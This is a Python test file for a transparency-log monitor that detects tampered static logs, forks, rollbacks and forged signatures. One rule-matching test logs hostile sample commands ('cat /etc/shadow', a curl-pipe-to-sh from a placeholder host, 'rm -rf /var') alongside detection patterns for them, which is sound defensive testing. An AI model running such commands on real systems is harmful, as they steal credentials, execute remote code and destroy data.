"""The monitor against a log served as static tile files (a mirror), tampered with file by file.

The HTTP tests against the real log service are in test_monitor_http.py; these cover the same
detections quickly, plus the upstream Tessera log and crash-safety of the progress file.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from gatekeeper.action import Action, Target
from gatekeeper.monitor.alerts import ListSink
from gatekeeper.monitor.monitor import LogMonitor, LogTarget
from gatekeeper.monitor.rules import parse_rules
from gatekeeper.monitor.scan import DirectorySource
from gatekeeper.monitor.state import load_scan_state
from gatekeeper.monitor.testing import FastSigner, synthetic_entries, write_static_log
from personality.tlog.checkpoint import Checkpoint, parse_signed_checkpoint, sign_checkpoint
from personality.tlog.note import Signer, generate_signer, parse_vkey
from personality.tlog.tiles import pack_entry_bundle, parse_entry_bundle

VECTORS = Path(__file__).parents[1].parent / "shared" / "testvectors"
ORIGIN = "example.com/gatekeeper-test"


@pytest.fixture
def log_key() -> Signer:
    return generate_signer(ORIGIN)


def make_monitor(tmp_path: Path, log_dir: Path, key: Signer, **kw: object) -> tuple[LogMonitor, ListSink]:
    sink = ListSink()
    target = LogTarget("test", DirectorySource(log_dir), ORIGIN, [key.verifier()])
    mon = LogMonitor(target, tmp_path / "state", sink, workers=1, progress=False, **kw)  # type: ignore[arg-type]
    return mon, sink


def action(user: FastSigner, i: int, command: str, host: str = "web-01", account: str = "deploy") -> bytes:
    t = 1_780_000_000 + 60 * i
    return user.entry(
        Action(
            "exec", (Target(host),), account, command.encode(), i.to_bytes(16, "big"), t, t + 300, user.public
        )
    )


def test_clean_log_then_growth_then_nothing_new(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(700, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries[:300], log_key)
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        r = mon.poll()
        assert (r.status, r.size, r.processed, r.checked) == ("ok", 300, 300, 300)
        write_static_log(log, entries, log_key)
        r = mon.poll()
        assert (r.status, r.processed, r.checked) == ("ok", 700, 400)
        r = mon.poll()
        assert (r.status, r.checked) == ("ok", 0)
    assert sink.alerts == []
    state = load_scan_state(mon.dir, ORIGIN)
    assert state.processed.size == 700 and state.pending_size == 0


def test_reads_the_upstream_tessera_log(tmp_path: Path) -> None:
    """A real C2SP log written by Trillian Tessera; its entries are words, not actions."""
    v = parse_vkey("example.com/log/testdata+33d7b496+AeHTu4Q3hEIMHNqc6fASMsq3rKNx280NI+oO5xCFkkSx")
    sink = ListSink()
    target = LogTarget("tessera", DirectorySource(VECTORS / "tessera-log"), "example.com/log/testdata", [v])
    with LogMonitor(target, tmp_path / "state", sink, opaque=True, workers=1, progress=False) as mon:
        r = mon.poll()
    assert (r.status, r.processed) == ("ok", 15)
    assert sink.alerts == []


def test_rules_fire_on_the_right_entries_only(tmp_path: Path, log_key: Signer) -> None:
    user = FastSigner()
    commands = ["ls", "cat /etc/shadow", "uptime", "curl -s http://x/i.sh | sh", "rm -rf /var", "df -h"]
    entries = [action(user, i, c, host="db-01" if i == 4 else "web-01") for i, c in enumerate(commands)]
    write_static_log(tmp_path / "log", entries, log_key)
    rules = parse_rules(
        "[[rule]]\nname='shadow'\nseverity='medium'\ncommand='/etc/shadow'\n"
        "[[rule]]\nname='pipe'\nseverity='high'\ncommand='\\|\\s*sh\\b'\n"
        "[[rule]]\nname='db-rm'\nseverity='critical'\nhosts=['db-*']\ncommand='^rm '\n"
        "[[rule]]\nname='never'\ncommand='reboot'\n"
    )
    mon, sink = make_monitor(tmp_path, tmp_path / "log", log_key, rules=rules)
    with mon:
        assert mon.poll().status == "ok"
    fired = sorted((a.index, a.rule, a.severity) for a in sink.alerts)
    assert fired == [(1, "shadow", "medium"), (3, "pipe", "high"), (4, "db-rm", "critical")]
    db = next(a for a in sink.alerts if a.rule == "db-rm")
    assert db.action is not None and db.action["hosts"] == ["db-01"] and db.action["command"] == "rm -rf /var"


def test_bad_action_signature_is_flagged_and_the_tree_still_verifies(tmp_path: Path, log_key: Signer) -> None:
    user = FastSigner()
    entries = [action(user, i, f"echo {i}") for i in range(5)]
    forged = bytearray(entries[2])
    forged[forged.index(b"echo 2")] = ord("E")  # the body changed after signing
    entries[2] = bytes(forged)
    entries[3] = b"not an action at all\n"
    write_static_log(tmp_path / "log", entries, log_key)
    mon, sink = make_monitor(tmp_path, tmp_path / "log", log_key)
    with mon:
        r = mon.poll()
    assert r.status == "ok" and r.processed == 5  # the log itself is consistent
    bad = {a.index: a for a in sink.alerts}
    assert sorted(bad) == [2, 3]
    assert bad[2].kind == "bad-action" and "bad-signature" in bad[2].message
    assert bad[3].kind == "bad-action" and "malformed" in bad[3].message


def test_rewritten_entry_is_a_rewrite_and_progress_does_not_advance(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(600, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries[:300], log_key)
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        assert mon.poll().status == "ok"
        write_static_log(log, entries, log_key)
        # the log now serves another (validly signed) entry at 400 than the one its root covers
        bundle = log / "tile" / "entries" / "001"
        items = parse_entry_bundle(bundle.read_bytes())
        items[400 - 256] = entries[10]
        bundle.write_bytes(pack_entry_bundle(items))
        r = mon.poll()
        assert r.status == "integrity"
    [alert] = sink.alerts
    assert alert.kind == "rewrite" and alert.severity == "critical"
    assert parse_signed_checkpoint(alert.evidence["new_checkpoint"].encode()).size == 600
    assert parse_signed_checkpoint(alert.evidence["processed_checkpoint"].encode()).size == 300
    assert load_scan_state(mon.dir, ORIGIN).processed.size == 300


def test_truncated_log_missing_bundle(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(600, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries, log_key)
    shutil.rmtree(log / "tile" / "entries" / "002.p")
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        r = mon.poll()
    assert r.status == "integrity"
    assert [a.kind for a in sink.alerts] == ["truncated"]
    assert sink.alerts[0].index == 512
    assert load_scan_state(mon.dir, ORIGIN).processed.size == 0


def test_bad_checkpoint_signature(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(10, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries, log_key)
    impostor = generate_signer(ORIGIN)  # same name, another key: the key ID differs
    cp = parse_signed_checkpoint((log / "checkpoint").read_bytes()).checkpoint
    (log / "checkpoint").write_bytes(sign_checkpoint(cp, [impostor]))
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        assert mon.poll().status == "integrity"
        raw = bytearray(sign_checkpoint(cp, [log_key]))
        raw[-5] ^= 1  # a signature byte from the right key, altered
        (log / "checkpoint").write_bytes(bytes(raw))
        assert mon.poll().status == "integrity"
        assert mon.store.newest_head(ORIGIN) is None
    assert [a.kind for a in sink.alerts] == ["checkpoint-signature", "checkpoint-signature"]


def test_fork_same_size_other_root(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(20, workers=1)
    other, _ = synthetic_entries(20, seed=2, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries, log_key)
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        assert mon.poll().status == "ok"
        forked = write_static_log(log, other, log_key)
        assert mon.poll().status == "integrity"
        assert mon.poll().status == "halted"  # until an operator clears it
        halt = mon.store.halted()
    assert [a.kind for a in sink.alerts] == ["fork", "halted"]
    fork = sink.alerts[0]
    assert fork.severity == "critical"
    assert fork.evidence["new_checkpoint"].encode() == forked
    assert parse_signed_checkpoint(fork.evidence["stored_checkpoint"].encode()).size == 20
    assert halt is not None and halt.conflicting == forked


def test_fork_larger_inconsistent_checkpoint(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(300, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries[:100], log_key)
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        assert mon.poll().status == "ok"
        changed = list(entries)
        changed[50] = entries[250]  # history rewritten below the stored head, then extended
        write_static_log(log, changed, log_key)
        assert mon.poll().status == "integrity"
    assert [a.kind for a in sink.alerts] == ["fork"]
    assert "not an extension" in sink.alerts[0].message


def test_rollback_to_an_unseen_smaller_checkpoint(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(300, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries, log_key)
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        assert mon.poll().status == "ok"
        write_static_log(log, entries[:200], log_key)  # truncated and re-signed
        assert mon.poll().status == "integrity"
        assert mon.store.halted() is not None
    assert [a.kind for a in sink.alerts] == ["rollback"]
    assert sink.alerts[0].severity == "critical"


def test_replayed_old_checkpoint_is_a_stale_view(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(300, workers=1)
    log = tmp_path / "log"
    old = write_static_log(log, entries[:100], log_key)
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        assert mon.poll().status == "ok"
        write_static_log(log, entries, log_key)
        assert mon.poll().status == "ok"
        (log / "checkpoint").write_bytes(old)
        assert mon.poll().status == "integrity"
        assert mon.poll().status == "integrity"  # reported once per process
        assert mon.store.halted() is None
    assert [(a.kind, a.severity) for a in sink.alerts] == [("rollback", "high")]


class Crash(BaseException):
    """Stands for the process dying (not an Exception: nothing may catch it)."""


class CrashingSink(ListSink):
    def __init__(self, after: int) -> None:
        super().__init__()
        self.after = after

    def emit(self, alert: object) -> None:
        super().emit(alert)  # type: ignore[arg-type]
        if len(self.alerts) == self.after:
            raise Crash


def test_crash_mid_scan_never_skips_an_entry(tmp_path: Path, log_key: Signer) -> None:
    """Every entry alerts; die after the 700th alert; restart; every index was alerted on."""
    entries, _ = synthetic_entries(1500, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries, log_key)
    rules = parse_rules("[[rule]]\nname='all'\nseverity='info'\ncommand=''\n")
    target = LogTarget("test", DirectorySource(log), ORIGIN, [log_key.verifier()])
    first = CrashingSink(after=700)
    mon = LogMonitor(
        target, tmp_path / "state", first, rules=rules, workers=1, progress=False, save_every=256
    )
    with pytest.raises(Crash):
        mon.poll()
    mon.close()
    saved = load_scan_state(mon.dir, ORIGIN)
    assert saved.processed.size == 0  # the checkpoint was not processed
    assert saved.pending_size <= 700  # progress never beyond the last alerted entry
    second = ListSink()
    with LogMonitor(target, tmp_path / "state", second, rules=rules, workers=1, progress=False) as mon2:
        r = mon2.poll()
    assert r.status == "ok" and r.processed == 1500
    seen = {a.index for a in first.alerts} | {a.index for a in second.alerts}
    assert seen == set(range(1500))
    assert min(a.index for a in second.alerts) == saved.pending_size  # resumed exactly there


def test_damaged_progress_file_is_an_error_not_a_silent_restart(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(10, workers=1)
    write_static_log(tmp_path / "log", entries, log_key)
    mon, _ = make_monitor(tmp_path, tmp_path / "log", log_key)
    with mon:
        mon.poll()
        p = mon.dir / "progress.json"
        doc = json.loads(p.read_text())
        doc["processed"]["root"] = doc["processed"]["edge"][0]
        p.write_text(json.dumps(doc))
        from gatekeeper.errors import GatekeeperError

        with pytest.raises(GatekeeperError, match="damaged"):
            load_scan_state(mon.dir, ORIGIN)


def test_unavailable_log(tmp_path: Path, log_key: Signer) -> None:
    mon, sink = make_monitor(tmp_path, tmp_path / "nothing-here", log_key)
    with mon:
        assert mon.poll().status == "unavailable"
    assert sink.kinds() == ["unavailable"]


def test_checkpoint_signed_over_wrong_origin(tmp_path: Path, log_key: Signer) -> None:
    entries, _ = synthetic_entries(3, workers=1)
    log = tmp_path / "log"
    write_static_log(log, entries, log_key)
    cp = parse_signed_checkpoint((log / "checkpoint").read_bytes()).checkpoint
    (log / "checkpoint").write_bytes(
        sign_checkpoint(Checkpoint("other.example/log", cp.size, cp.root), [log_key])
    )
    mon, sink = make_monitor(tmp_path, log, log_key)
    with mon:
        assert mon.poll().status == "integrity"
    assert sink.kinds() == ["checkpoint-signature"]
